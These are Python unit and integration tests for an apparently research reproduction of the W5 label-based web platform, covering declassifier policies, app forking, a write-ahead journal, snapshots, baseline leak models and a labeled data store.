        bob.get("/app/blog/post", title="t", body="b")
        eve.get("/app/blog/read", author="bob", title="t")
        assert metrics.count("export", allowed=False) >= 1
        assert metrics.denial_rate("export") > 0.0

    def test_gateway_snapshot(self):
        from repro import W5System
        w5 = W5System()
        metrics = Metrics(w5.audit())
        assert metrics.gateway_snapshot() == {}  # nothing attached yet
        metrics.attach_gateway(w5.provider.gateway)
        bob = w5.add_user("bob", apps=["blog"])
        eve = w5.add_user("eve", apps=["blog"])
        bob.get("/app/blog/post", title="t", body="b")
        eve.get("/app/blog/read", author="bob", title="t")
        snap = metrics.gateway_snapshot()
        assert snap["exports_allowed"] >= 1
        assert snap["exports_denied"] >= 1
        assert snap["rate_limited"] == 0

    def test_attach_methods_all_chain(self):
        from repro import W5System
        w5 = W5System()
        metrics = (Metrics(w5.audit())
                   .attach_flow_cache(w5.provider.kernel.flow_cache)
                   .attach_request_plane(w5.provider)
                   .attach_data_plane(w5.provider)
                   .attach_persistence(w5.provider)
                   .attach_gateway(w5.provider.gateway))
        w5.add_user("bob", apps=["blog"])
        assert metrics.cache_snapshot()
        assert metrics.request_plane_snapshot()
        assert metrics.data_plane_snapshot()
        assert metrics.persistence_snapshot()
        assert "exports_allowed" in metrics.gateway_snapshot()
