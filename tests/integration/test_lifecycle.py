"""End-to-end lifecycle scenarios across many subsystems at once."""

import pytest

from repro import W5System
from repro.platform import AppModule, NotAuthorized


class TestForkAndVersionLifecycle:
    def test_fork_acquires_users_instantly(self):
        """§2: 'At that point, the customizing developer has a pool of
        users (who need only check a box)' — and module preferences
        switch per user with no data movement."""
        w5 = W5System()
        provider = w5.provider
        bob = w5.add_user("bob", apps=["photo-share"])
        amy = w5.add_user("amy", apps=["photo-share"])
        for c in (bob, amy):
            c.get("/app/photo-share/upload", filename="p.jpg", data="RAW")

        def crop_fork(ctx, data, width, height):
            return f"cropped[{width}x{height},forked]:{data}"
        provider.fork_app("crop-basic", "indie", new_name="crop-forked",
                          handler=crop_fork)

        # bob switches, amy stays — same photos, different code paths
        bob.post("/policy/prefer", params={"slot": "cropper",
                                           "module": "crop-forked"})
        bob.get("/app/photo-share/crop", filename="p.jpg")
        amy.get("/app/photo-share/crop", filename="p.jpg")
        assert "forked" in bob.get("/app/photo-share/view",
                                   filename="p.jpg").body["data"]
        assert "center" in amy.get("/app/photo-share/view",
                                   filename="p.jpg").body["data"]

    def test_version_pinning_via_url(self):
        """§2: users can run 'version X.Y of that Web application, not
        the latest' by navigating to a versioned URL."""
        w5 = W5System()
        provider = w5.provider

        def v1(ctx):
            return {"version": "one"}

        def v2(ctx):
            return {"version": "two"}
        provider.register_app(AppModule("greeter", "dev", v1,
                                        version="1.0"))
        provider.register_app(AppModule("greeter", "dev", v2,
                                        version="2.0"))
        bob = w5.add_user("bob", apps=["greeter"])
        assert bob.get("/app/greeter/go").body == {"version": "two"}
        assert bob.get("/app/greeter@1.0/go").body == {"version": "one"}

    def test_closed_source_runs_but_hides_source(self):
        w5 = W5System(with_adversaries=True)
        provider = w5.provider
        module = provider.apps.get("data-thief")
        assert not module.source_open
        with pytest.raises(NotAuthorized):
            provider.apps.source_of("data-thief")
        with pytest.raises(NotAuthorized):
            provider.apps.fork("data-thief", "copycat")
        # yet it executes fine (for its victim, who opted in)
        bob = w5.add_user("bob", apps=["data-thief"])
        w5.provider.store_user_data("bob", "f", "x")
        assert bob.get("/app/data-thief/go", victim="bob").ok


class TestRevocationLifecycle:
    def test_declassifier_revocation_closes_the_hole(self):
        w5 = W5System()
        bob = w5.add_user("bob", apps=["blog"], friends=["amy"])
        amy = w5.add_user("amy", apps=["blog"], friends=["bob"])
        bob.get("/app/blog/post", title="t", body="visible-to-amy")
        assert amy.get("/app/blog/read", author="bob", title="t").ok
        # bob revokes; amy's next request bounces
        w5.provider.revoke_declassifier("bob")
        r = amy.get("/app/blog/read", author="bob", title="t")
        assert r.status == 403

    def test_disable_app_revokes_read(self):
        w5 = W5System(with_adversaries=True)
        bob = w5.add_user("bob", apps=["data-thief"])
        w5.provider.store_user_data("bob", "f", "x")
        assert bob.get("/app/data-thief/go", victim="bob").ok
        w5.provider.disable_app("bob", "data-thief")
        r = bob.get("/app/data-thief/go", victim="bob")
        assert r.status in (403, 500)

    def test_regranting_restores(self):
        w5 = W5System()
        bob = w5.add_user("bob", apps=["blog"], friends=[])
        amy = w5.add_user("amy", apps=["blog"], friends=["bob"])
        bob.get("/app/blog/post", title="t", body="b")
        assert amy.get("/app/blog/read", author="bob",
                       title="t").status == 403
        w5.provider.grant_builtin_declassifier("bob", "friends-only",
                                               {"friends": ["amy"]})
        assert amy.get("/app/blog/read", author="bob", title="t").ok


class TestMixedPolicyWorld:
    def test_embargo_and_friends_compose(self):
        """A user may hold several grants; release happens when any
        approves — the union-of-policies semantics."""
        from repro.declassify import TimeEmbargo
        w5 = W5System()
        bob = w5.add_user("bob", apps=["blog"], friends=["amy"])
        amy = w5.add_user("amy", apps=["blog"], friends=["bob"])
        eve = w5.add_user("eve", apps=["blog"])
        w5.grant_declassifier("bob", TimeEmbargo({"release_at": 100.0}))
        bob.get("/app/blog/post", title="t", body="embargoed")
        # before the embargo: friend yes (friends-only), stranger no
        assert amy.get("/app/blog/read", author="bob", title="t").ok
        assert eve.get("/app/blog/read", author="bob",
                       title="t").status == 403
        # after the embargo: everyone
        w5.provider.declass.now = 200.0
        assert eve.get("/app/blog/read", author="bob", title="t").ok

    def test_public_declassifier_opens_to_anonymous(self):
        w5 = W5System()
        bob = w5.add_user("bob", apps=["blog"])
        w5.provider.grant_builtin_declassifier("bob", "public")
        bob.get("/app/blog/post", title="t", body="hello world")
        anon = w5.anonymous_client()
        # anonymous can't *run* the blog app (needs login), but bob's
        # tag no longer blocks exports to anonymous:
        from repro.labels import Label
        tag = w5.provider.account("bob").data_tag
        w5.provider.gateway.export_check(Label([tag]), None)
