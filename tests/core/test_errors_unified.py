"""The unified exception hierarchy: one root, three families.

Every deliberate refusal in the reproduction must be a ``W5Error``;
policy denials must be ``FlowDenied``; write-path refusals must also be
``WriteDenied``; and every "no such X" must be ``NotFound`` — while all
historical class names keep working as the very same classes.
"""

import pytest

from repro.errors import FlowDenied, NotFound, W5Error, WriteDenied
from repro import errors as unified
from repro.db.errors import (DbError, NoSuchRow, NoSuchTable, SchemaError,
                             TableExists)
from repro.fs.errors import (FsError, IsADirectory, NoSuchPath,
                             NotADirectory, PathExists)
from repro.kernel.errors import (DeadProcess, EndpointMisuse, KernelError,
                                 MailboxEmpty, NoSuchEndpoint, NoSuchProcess,
                                 ResourceExhausted)
from repro.labels import (CapabilityError, FlowViolation, IntegrityViolation,
                          LabelError, SecrecyViolation, TagError,
                          WriteIntegrityViolation, WriteSecrecyViolation)
from repro.platform.errors import (AppCrashed, NoSuchApp, NoSuchUser,
                                   NotAuthorized, PlatformError)


ALL_LAYER_ERRORS = [
    LabelError, FlowViolation, SecrecyViolation, IntegrityViolation,
    WriteSecrecyViolation, WriteIntegrityViolation, CapabilityError, TagError,
    KernelError, NoSuchProcess, NoSuchEndpoint, DeadProcess, MailboxEmpty,
    EndpointMisuse, ResourceExhausted,
    FsError, NoSuchPath, PathExists, NotADirectory, IsADirectory,
    DbError, NoSuchTable, TableExists, NoSuchRow, SchemaError,
    PlatformError, NoSuchUser, NoSuchApp, NotAuthorized, AppCrashed,
]


class TestOneRoot:
    @pytest.mark.parametrize("exc", ALL_LAYER_ERRORS)
    def test_everything_is_a_w5error(self, exc):
        assert issubclass(exc, W5Error)


class TestFlowDeniedFamily:
    @pytest.mark.parametrize("exc", [
        FlowViolation, SecrecyViolation, IntegrityViolation,
        WriteSecrecyViolation, WriteIntegrityViolation,
        CapabilityError, NotAuthorized,
    ])
    def test_denials(self, exc):
        assert issubclass(exc, FlowDenied)

    @pytest.mark.parametrize("exc", [
        NoSuchPath, NoSuchRow, MailboxEmpty, TagError, SchemaError,
    ])
    def test_non_denials_stay_out(self, exc):
        assert not issubclass(exc, FlowDenied)


class TestWriteDeniedFamily:
    def test_write_variants_are_both_families(self):
        assert issubclass(WriteSecrecyViolation, WriteDenied)
        assert issubclass(WriteSecrecyViolation, SecrecyViolation)
        assert issubclass(WriteIntegrityViolation, WriteDenied)
        assert issubclass(WriteIntegrityViolation, IntegrityViolation)

    def test_read_denials_are_not_write_denied(self):
        assert not issubclass(SecrecyViolation, WriteDenied)
        assert not issubclass(IntegrityViolation, WriteDenied)

    def test_storage_write_refusal_is_write_denied(self):
        """End-to-end: a no-write-down refusal is catchable as
        WriteDenied and as the historical SecrecyViolation."""
        from repro.core import access
        from repro.kernel import Kernel
        from repro.labels import Label

        kernel = Kernel()
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="secret")
        tainted = kernel.spawn_trusted("tainted", slabel=Label([t]))
        with pytest.raises(WriteDenied):
            access.check_write(tainted, Label.EMPTY, Label.EMPTY, "obj")
        with pytest.raises(SecrecyViolation):
            access.check_write(tainted, Label.EMPTY, Label.EMPTY, "obj")


class TestNotFoundFamily:
    @pytest.mark.parametrize("exc", [
        NoSuchProcess, NoSuchEndpoint, NoSuchPath, NoSuchTable, NoSuchRow,
        NoSuchUser, NoSuchApp,
    ])
    def test_lookups(self, exc):
        assert issubclass(exc, NotFound)

    @pytest.mark.parametrize("exc", [PathExists, TableExists, DeadProcess])
    def test_non_lookups_stay_out(self, exc):
        assert not issubclass(exc, NotFound)


class TestAliasesUnchanged:
    def test_layer_bases_scope_their_subsystem(self):
        assert issubclass(NoSuchPath, FsError)
        assert issubclass(NoSuchRow, DbError)
        assert issubclass(NoSuchProcess, KernelError)
        assert issubclass(NotAuthorized, PlatformError)
        assert issubclass(SecrecyViolation, LabelError)

    def test_unified_module_exports(self):
        assert set(unified.__all__) == {"W5Error", "FlowDenied",
                                        "WriteDenied", "NotFound",
                                        "CrossShardWrite"}

    def test_session_auth_error_is_w5(self):
        from repro.net.session import AuthError
        assert issubclass(AuthError, W5Error)
