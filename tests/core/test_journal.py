"""Unit tests for the write-ahead journal (PR 4 tentpole core)."""

import json
import zlib

import pytest

from repro.core.journal import (Journal, JournalCursor, decode_payload,
                                encode_payload)


class TestAppendRecover:
    def test_round_trip(self):
        j = Journal()
        j.append("a.one", {"x": 1})
        j.append("a.two", {"y": [1, 2]})
        records, report = Journal.recover(j.raw_bytes())
        assert [(r.seq, r.op, r.data) for r in records] == [
            (1, "a.one", {"x": 1}), (2, "a.two", {"y": [1, 2]})]
        assert report.truncated_bytes == 0
        assert report.truncation_reason == ""

    def test_empty_journal(self):
        records, report = Journal.recover(b"")
        assert records == [] and report.records == 0

    def test_seq_is_monotone_and_resets(self):
        j = Journal()
        j.append("op", {})
        j.append("op", {})
        assert j.seq == 2
        j.reset()
        assert j.seq == 0 and j.size_bytes == 0
        j.append("op", {})
        records, __ = Journal.recover(j.raw_bytes())
        assert [r.seq for r in records] == [1]

    def test_records_are_one_json_line_each(self):
        j = Journal()
        j.append("op", {"k": "v"})
        raw = bytes(j.raw_bytes())
        assert raw.endswith(b"\n") and raw.count(b"\n") == 1
        parsed = json.loads(raw)
        assert set(parsed) == {"crc", "data", "op", "seq"}


class TestTornTail:
    def _journal(self):
        j = Journal()
        j.append("a", {"n": 1})
        j.append("b", {"n": 2})
        j.append("c", {"n": 3})
        return bytes(j.raw_bytes())

    def test_truncation_at_every_byte_offset(self):
        raw = self._journal()
        line_ends = [0]
        pos = 0
        for line in raw.splitlines(keepends=True):
            pos += len(line)
            line_ends.append(pos)
        for cut in range(len(raw) + 1):
            records, report = Journal.recover(raw[:cut])
            complete = max(e for e in line_ends if e <= cut)
            expected = sum(1 for e in line_ends[1:] if e <= cut)
            assert len(records) == expected, f"cut={cut}"
            assert report.truncated_bytes == cut - complete

    def test_bitflip_truncates_from_damage(self):
        raw = bytearray(self._journal())
        # flip a byte inside the second record's payload
        first_end = raw.index(b"\n") + 1
        target = raw.index(b'"n": 2') if b'"n": 2' in raw \
            else first_end + 20
        raw[target + 5] ^= 0x01
        records, report = Journal.recover(bytes(raw))
        assert len(records) == 1  # only the first record survives
        assert report.truncated_bytes > 0
        assert report.truncation_reason in ("checksum mismatch",
                                            "unparseable record")

    def test_garbage_line_truncates(self):
        raw = self._journal() + b"this is not json\n"
        records, report = Journal.recover(raw)
        assert len(records) == 3
        assert report.truncation_reason == "unparseable record"

    def test_sequence_gap_truncates(self):
        j = Journal()
        j.append("a", {})
        j.append("b", {})
        lines = bytes(j.raw_bytes()).splitlines(keepends=True)
        records, report = Journal.recover(lines[0] + lines[1] + lines[1])
        assert len(records) == 2
        assert "sequence gap" in report.truncation_reason

    def test_recovery_never_raises(self):
        for junk in (b"\x00\xff\n", b"{}\n", b'{"crc":"0"}\n',
                     b"\n\n\n", self._journal()[:-1] + b"\xf0"):
            Journal.recover(junk)  # must not raise


class TestPayloadTransport:
    def test_bytes_round_trip(self):
        blob = b"\x00\x01\xffbinary"
        encoded = encode_payload({"data": blob})
        json.dumps(encoded)  # journal lines must be pure JSON
        assert decode_payload(encoded) == {"data": blob}

    def test_nested_and_tuples(self):
        payload = {"a": [b"x", {"b": (1, 2)}]}
        out = decode_payload(encode_payload(payload))
        assert out == {"a": [b"x", {"b": [1, 2]}]}

    def test_unserializable_becomes_opaque_record(self):
        j = Journal()
        j.append("custom.op", {"fn": lambda: None})
        records, report = Journal.recover(j.raw_bytes())
        assert records[0].op == "journal.opaque"
        assert records[0].data["op"] == "custom.op"
        assert report.opaque_records == 1
        assert j.stats()["opaque_appends"] == 1


class TestStats:
    def test_counters(self):
        j = Journal(compact_threshold=64)
        assert not j.needs_compaction()
        j.append("op", {"payload": "x" * 100})
        assert j.needs_compaction()
        stats = j.stats()
        assert stats["appends"] == 1
        assert stats["bytes_written"] == j.size_bytes > 64
        j.reset()
        assert j.stats()["resets"] == 1
        assert not j.needs_compaction()

    def test_crc_is_crc32_of_line_minus_prefix(self):
        """The checksum covers the record exactly as written: the line
        bytes with the fixed-width crc prefix replaced by ``{``."""
        j = Journal()
        j.append("op", {"k": 1})
        raw = bytes(j.raw_bytes()).rstrip(b"\n")
        prefix = b'{"crc":"'
        assert raw.startswith(prefix)
        crc_hex = raw[len(prefix):len(prefix) + 8].decode()
        body = b"{" + raw[len(prefix) + 8 + 2:]  # skip '",' too
        assert crc_hex == format(zlib.crc32(body) & 0xFFFFFFFF, "08x")
        assert json.loads(raw)["crc"] == crc_hex


class TestCursorTailing:
    """The M15 tailing API: position/tail_from and cursor staleness."""

    def test_tail_from_current_position_is_empty(self):
        j = Journal()
        j.append("op", {"x": 1})
        cursor = j.position()
        assert j.tail_from(cursor) == []

    def test_tail_returns_only_records_past_cursor(self):
        j = Journal()
        j.append("a", {"n": 1})
        cursor = j.position()
        j.append("b", {"n": 2})
        j.append("c", {"n": 3})
        tail = j.tail_from(cursor)
        assert [(r.seq, r.op, r.data) for r in tail] == [
            (2, "b", {"n": 2}), (3, "c", {"n": 3})]

    def test_none_cursor_is_stale(self):
        j = Journal()
        assert j.tail_from(None) is None

    def test_reset_invalidates_cursor(self):
        j = Journal()
        j.append("a", {})
        cursor = j.position()
        j.reset()
        assert j.tail_from(cursor) is None
        # a fresh cursor works again
        j.append("b", {})
        assert j.tail_from(j.position()) == []

    def test_cursor_from_another_journal_is_stale(self):
        j1, j2 = Journal(), Journal()
        j1.append("a", {})
        j2.append("a", {})
        assert j2.tail_from(j1.position()) is None

    def test_future_cursor_is_stale(self):
        j = Journal()
        j.append("a", {})
        cursor = j.position()
        j2 = Journal()  # simulate a cursor from a longer history
        assert j2.tail_from(cursor) is None

    def test_tail_survives_payload_coercion(self):
        """Tail records decode exactly like recovered records do."""
        j = Journal()
        j.append("a", {"t": (1, 2)})
        cursor0 = JournalCursor(j.journal_id, j.epoch, 0)
        tail = j.tail_from(cursor0)
        recovered, __ = Journal.recover(j.raw_bytes())
        assert [(r.op, r.data) for r in tail] == \
            [(r.op, r.data) for r in recovered]
