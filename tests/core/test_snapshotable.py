"""The Snapshotable protocol and the public declassifier-config API."""

import json

import pytest

from repro.core import Snapshotable, W5System
from repro.db import restore_store
from repro.fs import restore_fs
from repro.kernel import Kernel
from repro.labels import Label, TagRegistry
from repro.platform import Provider, restore_provider
from repro.platform.errors import NoSuchApp


class TestSnapshotableProtocol:
    def test_all_four_subsystems_conform(self):
        provider = Provider(name="snap")
        for part in (provider.kernel.tags, provider.fs, provider.db,
                     provider):
            assert isinstance(part, Snapshotable)
            assert json.dumps(part.snapshot())  # JSON-able by contract

    def test_registry_snapshot_round_trips(self):
        reg = TagRegistry(namespace="snap")
        t = reg.create(purpose="p", owner="alice")
        reg2 = TagRegistry.import_state(reg.snapshot())
        assert reg2.lookup(t.tag_id).owner == "alice"

    def test_fs_snapshot_round_trips(self):
        kernel = Kernel()
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="secret")
        from repro.fs import LabeledFileSystem
        fs = LabeledFileSystem(kernel)
        fs.create(root, "/secret.txt", "hush", slabel=Label([t]))
        fs2 = restore_fs(kernel, fs.snapshot())
        assert fs2.read(root, "/secret.txt") == "hush"

    def test_store_snapshot_round_trips(self):
        kernel = Kernel()
        root = kernel.spawn_trusted("root")
        from repro.db import LabeledStore
        db = LabeledStore(kernel)
        db.create_table(root, "notes")
        db.insert(root, "notes", {"text": "hi"})
        db2 = restore_store(kernel, db.snapshot())
        assert db2.select(root, "notes") == [{"text": "hi"}]

    def test_provider_snapshot_composes_the_parts(self):
        provider = Provider(name="snap")
        state = provider.snapshot()
        assert state["registry"] == provider.kernel.tags.snapshot()
        assert state["fs"] == provider.fs.snapshot()
        assert state["db"] == provider.db.snapshot()
        restored, report = restore_provider(state)
        assert report == {"unrestored_grants": [], "missing_apps": []}
        assert restored.name == "snap"


class TestUpdateDeclassifierConfig:
    def _system_with(self, *users):
        sys = W5System(name="cfg")
        for u in users:
            sys.add_user(u, apps=["photo-share", "social"])
        return sys

    def test_update_replaces_config_key(self):
        sys = self._system_with("alice", "bob")
        n = sys.provider.update_declassifier_config(
            "alice", "friends-only", friends=["bob"])
        assert n == 1
        (grant,) = [g for g in sys.provider.declass.grants_for("alice")
                    if g.declassifier.name == "friends-only"]
        assert grant.declassifier.config["friends"] == frozenset({"bob"})

    def test_update_freezes_containers_like_the_constructor(self):
        sys = self._system_with("alice")
        sys.provider.update_declassifier_config(
            "alice", "friends-only", friends={"x", "y"})
        (grant,) = [g for g in sys.provider.declass.grants_for("alice")
                    if g.declassifier.name == "friends-only"]
        assert isinstance(grant.declassifier.config["friends"], frozenset)

    def test_update_unknown_grant_raises(self):
        sys = self._system_with("alice")
        with pytest.raises(NoSuchApp):
            sys.provider.update_declassifier_config(
                "alice", "no-such-declassifier", friends=[])

    def test_befriend_flows_through_public_api(self):
        """The W5System sugar must produce a working, audited policy
        edit — the friend can now see the owner's data."""
        sys = self._system_with("alice", "bob")
        sys.befriend("alice", "bob")
        client = sys.client("alice")
        client.get("/app/photo-share/upload", filename="cat.jpg",
                   data="MEOW")
        resp = sys.client("bob").get("/app/photo-share/view",
                                     owner="alice", filename="cat.jpg")
        assert resp.status == 200
        assert "MEOW" in str(resp.body)
        # and the edit was audited as a declassification policy event
        events = [e for e in sys.audit()
                  if "updated 'friends-only' config" in e.detail]
        assert len(events) >= 2  # symmetric: alice and bob
