"""Unit tests for the status-quo baseline models."""

import pytest

from repro.baselines import (AddressBookService, ApiMashup, DeveloperServer,
                             MapProviderServer, MashupOsMashup, SiloError,
                             SiloedWeb, ThirdPartyPlatform)

PROFILE = {"music": "jazz", "food": "ramen", "romance": "looking"}


class TestSiloedWeb:
    @pytest.fixture()
    def web(self):
        w = SiloedWeb()
        w.add_site("flickr-like")
        w.add_site("blogger-like")
        w.add_site("faces-like")
        return w

    def test_reentry_scales_with_sites(self, web):
        fields = web.join_everywhere("bob", PROFILE)
        assert fields == 3 * len(PROFILE)
        assert web.duplicated_fields("bob") == 3

    def test_duplicate_signup_rejected(self, web):
        web.site("flickr-like").signup("bob", PROFILE)
        with pytest.raises(SiloError):
            web.site("flickr-like").signup("bob", PROFILE)

    def test_store_requires_signup(self, web):
        with pytest.raises(SiloError):
            web.site("flickr-like").store("ghost", "x", 1)

    def test_no_cross_site_reads(self, web):
        web.join_everywhere("bob", PROFILE)
        web.site("flickr-like").store("bob", "photo1", "<jpeg>")
        with pytest.raises(SiloError):
            web.cross_site_read("blogger-like", "bob", "flickr-like",
                                "photo1")

    def test_migration_is_per_item(self, web):
        web.join_everywhere("bob", PROFILE)
        site = web.site("flickr-like")
        for i in range(10):
            site.store("bob", f"photo{i}", f"<jpeg{i}>")
        moved = web.migrate("bob", "flickr-like", "faces-like")
        assert moved == 10
        assert web.site("faces-like").fetch("bob", "photo3") == "<jpeg3>"

    def test_operator_sees_everything(self, web):
        site = web.site("flickr-like")
        site.signup("bob", PROFILE)
        site.store("bob", "diary", "SECRET")
        assert "SECRET" in site.operator_visible
        assert "jazz" in site.operator_visible

    def test_new_site_starts_empty(self, web):
        late = web.add_site("newcomer")
        assert late.user_count() == 0

    def test_duplicate_site_rejected(self, web):
        with pytest.raises(SiloError):
            web.add_site("flickr-like")


class TestThirdPartyPlatform:
    @pytest.fixture()
    def platform(self):
        p = ThirdPartyPlatform()
        p.signup("bob", PROFILE)
        return p

    def test_app_use_ships_profile_to_developer(self, platform):
        server = DeveloperServer("mallory", render=lambda p: "<page>")
        platform.register_app("horoscope", server)
        platform.install_app("bob", "horoscope")
        platform.use_app("bob", "horoscope")
        assert server.saw_value("jazz")
        assert platform.developer_exposure("horoscope") == 1

    def test_use_requires_install(self, platform):
        server = DeveloperServer("d", render=lambda p: "")
        platform.register_app("x", server)
        with pytest.raises(PermissionError):
            platform.use_app("bob", "x")

    def test_install_unknown_app(self, platform):
        with pytest.raises(KeyError):
            platform.install_app("bob", "ghost")

    def test_every_use_leaks_again(self, platform):
        server = DeveloperServer("d", render=lambda p: "")
        platform.register_app("x", server)
        platform.install_app("bob", "x")
        for __ in range(5):
            platform.use_app("bob", "x")
        assert platform.developer_exposure("x") == 5

    def test_render_result_relayed(self, platform):
        server = DeveloperServer(
            "d", render=lambda p: f"hello {p['music']} fan")
        platform.register_app("x", server)
        platform.install_app("bob", "x")
        assert platform.use_app("bob", "x") == "hello jazz fan"


class TestMashups:
    @pytest.fixture()
    def world(self):
        book = AddressBookService()
        book.add("bob", "mom", "12 Elm St")
        book.add("bob", "dan", "9 Oak Ave")
        maps = MapProviderServer()
        return book, maps

    def test_status_quo_leaks_names_and_addresses(self, world):
        book, maps = world
        page = ApiMashup(book, maps).render("bob")
        assert "<page>" in page
        assert maps.saw("mom") and maps.saw("12 Elm St")

    def test_mashupos_hides_names_not_addresses(self, world):
        book, maps = world
        page = MashupOsMashup(book, maps).render("bob")
        assert "mom" in page  # composed client-side
        assert not maps.saw("mom")
        assert maps.saw("12 Elm St")  # the paper's point

    def test_api_caprice_breaks_mashups(self, world):
        book, maps = world
        book.api_enabled = False
        with pytest.raises(PermissionError):
            ApiMashup(book, maps).render("bob")

    def test_marker_count_matches_entries(self, world):
        book, maps = world
        ApiMashup(book, maps).render("bob")
        assert len(maps.received_addresses) == 2
