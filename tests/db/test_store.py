"""Unit tests for the labeled tuple store."""

import pytest

from repro.db import (DbView, LabeledStore, NoSuchRow, NoSuchTable,
                      SchemaError, TableExists)
from repro.kernel import Kernel
from repro.labels import (CapabilitySet, IntegrityViolation, Label,
                          SecrecyViolation, minus, plus)


@pytest.fixture()
def kernel():
    return Kernel()


@pytest.fixture()
def store(kernel):
    return LabeledStore(kernel)


@pytest.fixture()
def provider(kernel):
    return kernel.spawn_trusted("provider")


class TestCatalog:
    def test_create_and_list(self, store, provider):
        store.create_table(provider, "photos")
        store.create_table(provider, "blogs")
        assert store.tables() == ["blogs", "photos"]

    def test_duplicate_table(self, store, provider):
        store.create_table(provider, "t")
        with pytest.raises(TableExists):
            store.create_table(provider, "t")

    def test_missing_table(self, store, provider):
        with pytest.raises(NoSuchTable):
            store.select(provider, "nope")

    def test_drop_table(self, store, provider):
        store.create_table(provider, "t")
        store.insert(provider, "t", {"a": 1})
        store.drop_table(provider, "t")
        assert "t" not in store.tables()

    def test_drop_table_needs_write_on_rows(self, store, kernel, provider):
        w = kernel.create_tag(provider, kind="integrity", purpose="w")
        store.create_table(provider, "t")
        store.insert(provider, "t", {"a": 1}, ilabel=Label([w]))
        intruder = kernel.spawn_trusted("intruder")
        with pytest.raises(IntegrityViolation):
            store.drop_table(intruder, "t")


class TestCrud:
    def test_insert_select(self, store, provider):
        store.create_table(provider, "t")
        store.insert(provider, "t", {"user": "bob", "n": 1})
        store.insert(provider, "t", {"user": "amy", "n": 2})
        rows = store.select(provider, "t", where={"user": "bob"})
        assert len(rows) == 1 and rows[0]["n"] == 1

    def test_select_returns_copies(self, store, provider):
        store.create_table(provider, "t")
        rid = store.insert(provider, "t", {"n": 1})
        rows = store.select(provider, "t")
        rows[0]["n"] = 999
        assert store.get(provider, "t", rid)["n"] == 1

    def test_predicate_select(self, store, provider):
        store.create_table(provider, "t")
        for i in range(10):
            store.insert(provider, "t", {"n": i})
        rows = store.select(provider, "t", predicate=lambda r: r["n"] % 2 == 0)
        assert len(rows) == 5

    def test_limit(self, store, provider):
        store.create_table(provider, "t")
        for i in range(10):
            store.insert(provider, "t", {"n": i})
        assert len(store.select(provider, "t", limit=3)) == 3

    def test_update(self, store, provider):
        store.create_table(provider, "t")
        store.insert(provider, "t", {"user": "bob", "n": 1})
        changed = store.update(provider, "t", where={"user": "bob"},
                               changes={"n": 42})
        assert changed == 1
        assert store.select(provider, "t")[0]["n"] == 42

    def test_update_requires_changes(self, store, provider):
        store.create_table(provider, "t")
        with pytest.raises(SchemaError):
            store.update(provider, "t", where={})

    def test_delete(self, store, provider):
        store.create_table(provider, "t")
        for i in range(4):
            store.insert(provider, "t", {"n": i})
        deleted = store.delete(provider, "t", predicate=lambda r: r["n"] >= 2)
        assert deleted == 2
        assert store.count(provider, "t") == 2

    def test_get_missing_row(self, store, provider):
        store.create_table(provider, "t")
        with pytest.raises(NoSuchRow):
            store.get(provider, "t", 12345)

    def test_insert_non_dict_rejected(self, store, provider):
        store.create_table(provider, "t")
        with pytest.raises(SchemaError):
            store.insert(provider, "t", ["not", "a", "dict"])


class TestIndexes:
    def test_index_used_and_consistent(self, store, provider):
        store.create_table(provider, "t", indexes=["user"])
        for i in range(100):
            store.insert(provider, "t", {"user": f"u{i % 10}", "n": i})
        rows = store.select(provider, "t", where={"user": "u3"})
        assert len(rows) == 10
        assert all(r["user"] == "u3" for r in rows)

    def test_index_tracks_updates(self, store, provider):
        store.create_table(provider, "t", indexes=["user"])
        store.insert(provider, "t", {"user": "bob"})
        store.update(provider, "t", where={"user": "bob"},
                     changes={"user": "robert"})
        assert store.select(provider, "t", where={"user": "bob"}) == []
        assert len(store.select(provider, "t", where={"user": "robert"})) == 1

    def test_index_tracks_deletes(self, store, provider):
        store.create_table(provider, "t", indexes=["user"])
        store.insert(provider, "t", {"user": "bob"})
        store.delete(provider, "t", where={"user": "bob"})
        assert store.select(provider, "t", where={"user": "bob"}) == []


class TestLabelFiltering:
    """The covert-channel-free semantics: invisible rows are as if absent."""

    def _mixed_table(self, store, kernel, provider):
        t = kernel.create_tag(provider, purpose="bob")
        store.create_table(provider, "profiles")
        store.insert(provider, "profiles", {"user": "pub", "x": 1})
        bob_writer = kernel.spawn_trusted("bobw", slabel=Label([t]))
        store.insert(bob_writer, "profiles", {"user": "bob", "x": 2})
        return t

    def test_select_filters_silently(self, store, kernel, provider):
        self._mixed_table(store, kernel, provider)
        snoop = kernel.spawn_trusted("snoop")
        rows = store.select(snoop, "profiles")
        assert [r["user"] for r in rows] == ["pub"]

    def test_count_matches_filtered_select(self, store, kernel, provider):
        self._mixed_table(store, kernel, provider)
        snoop = kernel.spawn_trusted("snoop")
        assert store.count(snoop, "profiles") == 1

    def test_cleared_process_sees_all(self, store, kernel, provider):
        t = self._mixed_table(store, kernel, provider)
        cleared = kernel.spawn_trusted("cleared", slabel=Label([t]))
        assert store.count(cleared, "profiles") == 2

    def test_get_invisible_row_reads_as_missing(self, store, kernel, provider):
        t = kernel.create_tag(provider, purpose="bob")
        store.create_table(provider, "t")
        writer = kernel.spawn_trusted("w", slabel=Label([t]))
        rid = store.insert(writer, "t", {"secret": True})
        snoop = kernel.spawn_trusted("snoop")
        with pytest.raises(NoSuchRow):
            store.get(snoop, "t", rid)

    def test_failstop_variant_raises_on_invisible(self, store, kernel, provider):
        self._mixed_table(store, kernel, provider)
        snoop = kernel.spawn_trusted("snoop")
        with pytest.raises(SecrecyViolation):
            store.select_failstop(snoop, "profiles")

    def test_update_skips_invisible_rows(self, store, kernel, provider):
        self._mixed_table(store, kernel, provider)
        snoop = kernel.spawn_trusted("snoop")
        changed = store.update(snoop, "profiles", changes={"x": 0})
        assert changed == 1  # only the public row

    def test_delete_skips_invisible_rows(self, store, kernel, provider):
        t = self._mixed_table(store, kernel, provider)
        snoop = kernel.spawn_trusted("snoop")
        store.delete(snoop, "profiles")
        cleared = kernel.spawn_trusted("c", slabel=Label([t]))
        assert store.count(cleared, "profiles") == 1  # bob's row survives


class TestWriteRules:
    def test_tainted_cannot_insert_clean_row(self, store, kernel, provider):
        t = kernel.create_tag(provider, purpose="s")
        store.create_table(provider, "t")
        tainted = kernel.spawn_trusted("app", slabel=Label([t]))
        with pytest.raises(SecrecyViolation):
            store.insert(tainted, "t", {"leak": 1}, slabel=Label.EMPTY)

    def test_tainted_insert_defaults_to_tainted_row(self, store, kernel, provider):
        t = kernel.create_tag(provider, purpose="s")
        store.create_table(provider, "t")
        tainted = kernel.spawn_trusted("app", slabel=Label([t]))
